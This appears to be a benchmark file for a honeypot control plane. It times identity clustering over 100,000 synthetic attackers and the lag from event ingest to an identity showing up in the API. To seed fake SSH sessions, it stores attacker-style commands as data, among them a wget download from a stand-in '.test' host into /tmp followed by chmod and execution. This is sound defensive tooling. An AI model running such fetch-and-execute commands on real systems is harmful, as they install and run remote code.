// Identity clustering: (1) one full run over 100,000 attackers folded from 1,000,000 events' worth
// of intelligence (10 per attacker; fingerprints, sessions with commands, credentials and payloads
// seeded straight into a libSQL file), then the incremental run after 1% of them changed; (2) the
// lag between ingesting an actor's second address (through the real mTLS agent ingest path) and its
// identity appearing in the API, under a steady 5,000 events/s of background ingest (control plane
// in its own process, 1 s clustering schedule), p50/p99, with the load average.
import { mkdtempSync, rmSync } from 'node:fs';
import { loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { Agent, request } from 'undici';
import { q, type RawSql } from '../../control-plane/src/db/raw-sql';
import { runIdentities } from '../../control-plane/src/services/identities/run';
import { shortHash } from '../../control-plane/src/services/intel/aggregate';
import { memoryDeps } from '../../control-plane/src/testing/memory-deps';
import { enroll } from './ingest';
import { spawnControlPlane } from './spawn-control-plane';
import { syntheticBatch } from './synthetic-events';
import type { BenchRow } from './table';

const POST_EVENTS_MAX = 1000;
const load = () => loadavg().map((x) => x.toFixed(2)).join(' ');
const hex = (n: number, len = 32) => shortHash(`v${n}`).slice(0, len).padEnd(len, '0');

export async function seedForTest(deps: Awaited<ReturnType<typeof memoryDeps>>, attackers: number): Promise<void> {
  const t0 = Date.UTC(2026, 0, 1);
  const CHUNK = 2000;
  for (let from = 0; from < attackers; from += CHUNK) {
    const st: RawSql[] = [];
    for (let i = from; i < Math.min(attackers, from + CHUNK); i++) {
      // 40% of addresses belong to actors of 2-8 addresses (same HASSH and dropper host); the rest are
      // one-address noise with a library-default fingerprint and top wordlist entries.
      const actor = i % 10 < 4 ? Math.floor(i / 5) : -1;
      const ip = `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`;
      const id = shortHash(`attacker:${ip}`);
      const ts = t0 + i * 1000;
      st.push(q`INSERT INTO attackers (id, ip, first_seen_ms, last_seen_ms, event_count) VALUES (${id}, ${ip}, ${ts}, ${ts + 60_000}, 10)`);
      st.push(q`INSERT INTO attacker_fingerprints (attacker_id, kind, value, first_seen_ms, last_seen_ms, count) VALUES (${id}, 'hassh', ${actor >= 0 ? hex(actor) : 'c'.repeat(32)}, ${ts}, ${ts}, 1)`);
      const cmds = actor >= 0 ? [`wget http://h${actor}.test/x -O /tmp/x`, 'chmod +x /tmp/x', '/tmp/x'] : ['uname -a', 'cat /proc/cpuinfo'];
      st.push(q`INSERT INTO sessions (id, attacker_id, src_ip, decky, service, started_at_ms, last_seen_ms, event_count, command_count, commands_json) VALUES (${shortHash(`s${i}`)}, ${id}, ${ip}, ${`web-0${i % 6}`}, 'ssh', ${ts}, ${ts + 60_000}, 10, ${cmds.length}, ${JSON.stringify(cmds.map((cmd) => ({ ts: new Date(ts).toISOString(), cmd })))})`);
      if (actor >= 0 && i % 3 === 0) st.push(q`INSERT INTO artifacts (id, sha256, size, decky, service, attacker_id, src_ip, ts_ms) VALUES (${shortHash(`f${i}`)}, ${shortHash(`p${actor}`) + shortHash(`q${actor}`)}, 100, 'web-01', 'ssh', ${id}, ${ip}, ${ts})`);
    }
    await deps.rawBatch(st);
  }
  const creds: RawSql[] = [];
  for (let c = 0; c < 50; c++) {
    const ips = Array.from({ length: 1000 }, (_, k) => (c * 1000 + k * 97) % attackers).map((i) => `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`);
    creds.push(q`INSERT INTO credentials (id, secret_sha256, kind, principal, secret_printable, secret_b64, attempts, first_seen_ms, last_seen_ms, attacker_ips_json) VALUES (${shortHash(`c${c}`)}, ${shortHash(`s${c}`)}, 'password', 'root', ${`pw${c}`}, '', 1000, ${t0}, ${t0}, ${JSON.stringify(ips)})`);
  }
  await deps.rawBatch(creds);
}

export async function benchIdentitiesClustering(attackers: number): Promise<BenchRow[]> {
  const dir = mkdtempSync(join(tmpdir(), 'decnet-bench-identities-'));
  try {
    const deps = await memoryDeps({}, { now: Date.now() }, `file:${join(dir, 'bench.db')}`);
    await seedForTest(deps, attackers);
    // CPU-seconds beside wall-clock: on a shared, loaded machine they are the fairer figure.
    const cpu0 = process.cpuUsage();
    const full = await runIdentities(deps, { force: true });
    const cpu = process.cpuUsage(cpu0);
    const fullCpuS = (cpu.user + cpu.system) / 1e6;
    const changed = Math.floor(attackers / 100);
    const st: RawSql[] = [];
    for (let i = 0; i < changed; i++) st.push(q`UPDATE attackers SET last_seen_ms = last_seen_ms + 1 WHERE ip = ${`10.${(i * 100 >> 16) & 255}.${(i * 100 >> 8) & 255}.${i * 100 & 255}`}`);
    await deps.rawBatch(st);
    const again = await runIdentities(deps);
    const forced = await runIdentities(deps, { force: true, full: true });
    return [
      { name: `identity clustering, ${attackers.toLocaleString('en')} attackers (${(attackers * 10).toLocaleString('en')} events' worth)`, value: `${(full.durationMs / 1000).toFixed(2)} s`, target: '< 60 s', met: full.durationMs < 60_000, note: `${full.mode} run, ${full.identities} identities, ${full.campaigns} campaigns, ${full.changes} rows written; ${fullCpuS.toFixed(2)} CPU-s in this process (SQLite runs in it); load average ${load()}` },
      { name: 'identity re-clustering after 1% of attackers changed', value: `${(again.durationMs / 1000).toFixed(2)} s`, target: '< 5 s', met: again.mode === 'incremental' && again.durationMs < 5000, note: `${again.mode} run: ${again.dirty} changed, ${again.attackers} attackers re-read, ${again.changes} rows written; a full recompute of the same state ${(forced.durationMs / 1000).toFixed(2)} s writing ${forced.changes} rows; load average ${load()}` },
    ];
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

export async function benchIdentityLag(rate: number, samples: number): Promise<BenchRow[]> {
  const cp = await spawnControlPlane(18191, { DECNET_IDENTITY_INTERVAL_MS: '1000' });
  try {
    const e = await enroll(cp.url, cp.token);
    const dispatcher = new Agent({ connect: { ca: e.caCertificatePem, cert: e.certificatePem, key: e.keyPem, timeout: 60_000 }, connections: 4 });
    const post = async (events: object[]) => {
      const res = await request(`${e.controlPlaneMtlsUrl}/agent/v1/events`, { dispatcher, method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ events }) });
      await res.body.text();
      if (res.statusCode !== 200) throw new Error(`ingest ${res.statusCode}`);
    };
    let stop = false;
    let sent = 0;
    let failure: unknown;
    const tickMs = 100;
    const startedMs = performance.now();
    const background = (async () => {
      const start = performance.now();
      while (!stop) {
        const due = Math.floor(((performance.now() - start) / 1000) * rate);
        if (due > sent) {
          const n = Math.min(due - sent, POST_EVENTS_MAX);
          await post(syntheticBatch(sent, n));
          sent += n;
        } else await new Promise((ok) => setTimeout(ok, tickMs));
      }
    })().catch((err: unknown) => {
      stop = true;
      failure = err;
    });
    const lags: number[] = [];
    await new Promise((ok) => setTimeout(ok, 3000));
    for (let s = 0; s < samples && !failure; s++) {
      const hassh = shortHash(`lag-${s}-${Date.now()}`);
      const ev = (ip: string, k: number) => ({ id: `lag-${s}-${k}-${hassh}`, ts: new Date().toISOString(), decky: 'web-01', service: 'sniffer', eventType: 'ssh_client_banner', srcIp: ip, srcPort: 40000 + k, fields: { hassh }, raw: '<134>1 - web-01 sniffer - ssh_client_banner -' });
      const a = `172.16.${s}.1`;
      const b = `172.17.${s}.1`;
      await post([ev(a, 1)]);
      await new Promise((ok) => setTimeout(ok, 500));
      const t0 = performance.now();
      await post([ev(b, 2)]);
      for (;;) {
        const r = await fetch(`${cp.url}/api/v1/identities?ip=${b}`, { headers: { authorization: `Bearer ${cp.token}` } });
        const body = (await r.json()) as { total: number };
        if (body.total > 0) break;
        if (performance.now() - t0 > 60_000) throw new Error('identity did not appear within 60 s');
        await new Promise((ok) => setTimeout(ok, 50));
      }
      lags.push(performance.now() - t0);
    }
    stop = true;
    await background;
    if (failure) throw failure instanceof Error ? failure : new Error(String(failure));
    lags.sort((x, y) => x - y);
    const median = lags[Math.floor(lags.length / 2)]!;
    const p99 = lags[Math.min(lags.length - 1, Math.ceil(lags.length * 0.99) - 1)]!;
    const achieved = Math.round(sent / ((performance.now() - startedMs) / 1000));
    return [{ name: `ingest-to-identity lag at ${rate.toLocaleString('en')} events/s`, value: `${(median / 1000).toFixed(2)} s p50, ${(p99 / 1000).toFixed(2)} s p99`, target: '< 5 s p99', met: p99 < 5000 && achieved >= 0.9 * rate, note: `${samples} samples over ${((performance.now() - startedMs) / 1000).toFixed(0)} s, 1 s schedule (incremental runs), ${sent.toLocaleString('en')} background events sent (${achieved.toLocaleString('en')}/s achieved; not met when under 90% of the rate); load average ${load()}` }];
  } finally {
    await cp.stop();
  }
}

export async function benchIdentities(attackers = 100_000, rate = 5000, samples = 20): Promise<BenchRow[]> {
  return [...(await benchIdentitiesClustering(attackers)), ...(await benchIdentityLag(rate, samples))];
}
